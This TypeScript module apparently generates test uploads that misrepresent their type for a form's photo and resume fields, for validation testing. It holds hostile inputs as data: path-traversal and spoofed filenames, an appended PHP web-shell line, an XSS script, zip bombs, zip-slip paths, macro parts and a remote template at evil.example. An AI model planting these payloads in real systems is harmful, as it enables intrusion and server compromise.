import sharp from 'sharp'
import type { FileField } from '#lib/schemas/files.ts'
import { contents } from './hostile-files.ts'
import type { Random } from './random.ts'
import { oleOf, wordParts, wordStream, zipOf } from './sample-documents.ts'

/** A file for a field of the form. */
type GeneratedFile = { what: string; field: FileField; name: string; bytes: Buffer }

const extensions = {
  png: ['png'],
  jpeg: ['jpg', 'jpeg', 'JPG'],
  pdf: ['pdf', 'PDF'],
  doc: ['doc'],
  docx: ['docx', 'DocX'],
}

type Kind = keyof typeof extensions

const kinds = ['png', 'jpeg', 'pdf', 'doc', 'docx'] as const

const others = { png: 'jpeg', jpeg: 'pdf', pdf: 'docx', doc: 'png', docx: 'doc' } as const satisfies Record<
  Kind,
  Kind
>

const isPhoto = (kind: Kind) => kind === 'png' || kind === 'jpeg'

const bases = [
  'cv',
  '../../etc/passwd',
  '..\\..\\a',
  'cv\u202egnp',
  'a\u0000',
  'CON',
  'سیڤی',
  '.htaccess',
  'a'.repeat(400),
  'cv.exe',
]

const starts: Readonly<Record<Kind, string>> = {
  png: '\x89PNG\r\n\x1a\n',
  jpeg: '\xff\xd8\xff\xe0\x00\x10JFIF\0',
  pdf: '%PDF-1.7\n',
  doc: '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  docx: 'PK\x03\x04',
}

// What stands behind a file to be opened by other means.
const riders = [
  zipOf([{ name: 'a.exe', content: 'MZ' }]),
  Buffer.from('<!doctype html><html><script>alert(1)</script>'),
  Buffer.from('\n<?php system($_GET[0]); ?>'),
  Buffer.from('Rar!\x1a\x07\x01\x00aaaa', 'latin1'),
  Buffer.from("7z\xbc\xaf'\x1caaaa", 'latin1'),
  Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
] as const

const programs = ['exe', 'SCR', 'hta', 'lnk', 'ps1', 'docm', 'vbs', 'js', 'msi'] as const
const schemes = ['http:', 'HTTPS:', 'ftp:', 'mhtml:http:', '&#104;ttps:', 'ms-word:ofe|u|https:'] as const

/** Makes files of which none is what its name says, whole and harmless. */
export const fileMaker = async () => {
  const good = (await contents()).filter(
    ({ error, kind, what }) => error === null && kind !== null && !/ in a PDF| and a |depth map/.test(what),
  )
  const of = ({ below }: Random, kind: Kind) => {
    const all = good.filter((content) => content.kind === kind)
    const one = all[below(all.length)]
    if (!one) throw new Error(`no good ${kind}`)
    return one.bytes
  }
  const noise = ({ below }: Random, most: number) =>
    Buffer.from(Array.from({ length: below(most) }, () => below(256)))

  const cutAt = ({ next }: Random, kind: Kind, bytes: Buffer) => {
    const ends = { pdf: bytes.indexOf('%%EOF'), doc: Math.min(bytes.length, 3000) }
    return Math.floor(next() * 0.95 * (kind === 'pdf' || kind === 'doc' ? ends[kind] : bytes.length))
  }

  const makers: Readonly<Record<string, (random: Random, kind: Kind) => readonly [Kind, Buffer]>> = {
    'another file behind it': (random, kind) => [
      kind,
      Buffer.concat([of(random, kind), Buffer.alloc(random.below(64)), random.pick(riders)]),
    ],
    'another file in front of it': (random, kind) => [
      kind,
      Buffer.concat([of(random, others[kind]), of(random, kind)]),
    ],
    'of another kind': (random, kind) => [others[kind], of(random, kind)],
    'cut off': (random, kind) => {
      const bytes = of(random, kind)
      return [kind, bytes.subarray(0, cutAt(random, kind, bytes))]
    },
    'a start alone': (random, kind) => [
      kind,
      Buffer.concat([
        Buffer.from(starts[kind], 'latin1'),
        noise(random, 3000),
        Buffer.from(random.pick(['', '%%EOF', 'IEND', '\xff\xd9'])),
      ]),
    ],
    'nothing in it': ({ pick, below }, kind) => [
      kind,
      Buffer.alloc(below(200), pick(['\0', ' ', '\n', 'A'])),
    ],
    'a bomb': ({ pick, below }) => {
      const content = Buffer.alloc(1 + below(200_000))
      const declared = pick([0, below(content.length), 101 * 1024 * 1024 + below(2 ** 30)])
      return ['docx', zipOf([...wordParts(), { name: `word/media/${below(99)}.bmp`, content, declared }])]
    },
    'parts that lead outside': ({ pick, below }) => {
      const way = pick(['../', '../../../', '/', 'C:/', '..\\', 'word/../../'])
      return ['docx', zipOf([...wordParts(), { name: `${way}${below(99)}`, content: 'x' }])]
    },
    'a program or macros': ({ pick, below, next }) => {
      if (next() < 0.2)
        return ['doc', oleOf({ WordDocument: wordStream(), _VBA_PROJECT: Buffer.alloc(4096 + below(99)) })]
      const name =
        next() < 0.5
          ? `word/embeddings/${below(99)}.${pick(programs)}`
          : pick(['word/VBAproject.bin', `customXml/${below(9)}/vbaProject.bin`])
      return ['docx', zipOf([...wordParts(), { name, content: 'x' }])]
    },
    'a template from elsewhere': ({ pick, below }) => {
      const target = `${pick(schemes)}//evil.example/${below(999)}`
      const content = `<Relationships><Relationship TargetMode='External' Id="a" Target="${target}" Type="x/attachedTemplate"/></Relationships>`
      return ['docx', zipOf([...wordParts(), { name: 'word/_rels/settings.xml.rels', content }])]
    },
  }
  const names = Object.keys(makers)

  return (random: Random, index: number): GeneratedFile => {
    const what = names[index % names.length] ?? ''
    const [kind, bytes] = makers[what]?.(random, random.pick(kinds)) ?? ['pdf', Buffer.alloc(0)]
    const all = extensions[kind]
    const name = `${bases[random.below(bases.length)]}.${all[random.below(all.length)]}`
    return { what, field: isPhoto(kind) ? 'photo' : 'resume', name, bytes }
  }
}

const looks = [
  'plain',
  'progressive',
  'grey',
  'large',
  'cmyk',
  'wide colours',
  'rotated strip',
  'subsampled',
] as const

const photoOf = (look: (typeof looks)[number]) => {
  const [width, height] =
    look === 'large' ? [4000, 3000] : look === 'rotated strip' ? [1600, 200] : [640, 480]
  const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const
  const picture = sharp({ create: { width, height, channels: 3, background: '#808080', noise } })
  const coloured =
    look === 'grey' ? picture.toColourspace('b-w') : look === 'cmyk' ? picture.toColourspace('cmyk') : picture
  const tagged = look === 'wide colours' ? coloured.withIccProfile('p3') : coloured
  const camera = {
    IFD0: { Make: 'Camera', Model: 'Phone', Orientation: '1' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '36/1 11/1 0/1' },
  }
  return tagged
    .withExif(camera)
    .jpeg({
      quality: look === 'large' ? 30 : 80,
      progressive: look === 'progressive',
      chromaSubsampling: look === 'subsampled' ? '4:2:0' : '4:4:4',
    })
    .toBuffer()
}

// Where a photo says which way up it is: tag, type, count.
const orientationMark = Buffer.from([0x12, 0x01, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00])

const turned = (photo: Buffer, orientation: number) => {
  const at = photo.indexOf(orientationMark)
  if (at < 0) throw new Error('a photo without orientation')
  const bytes = Buffer.from(photo)
  bytes[at + orientationMark.length] = orientation
  return bytes
}

/** Good files as people have them: phones' photos the eight ways up, and documents of all writers. */
export const genuineFiles = async (): Promise<GeneratedFile[]> => {
  const files: GeneratedFile[] = []
  for (const look of looks) {
    const photo = await photoOf(look)
    for (let orientation = 1; orientation <= 8; orientation += 1) {
      const bytes = turned(photo, orientation)
      files.push({ what: `${look}, ${orientation}`, field: 'photo', name: 'IMG_1.jpg', bytes })
    }
  }
  for (const { what, kind, bytes, error } of await contents()) {
    if (error !== null || kind === null) continue
    const [extension] = extensions[kind]
    files.push({ what, field: isPhoto(kind) ? 'photo' : 'resume', name: `CV.${extension}`, bytes })
  }
  return files
}
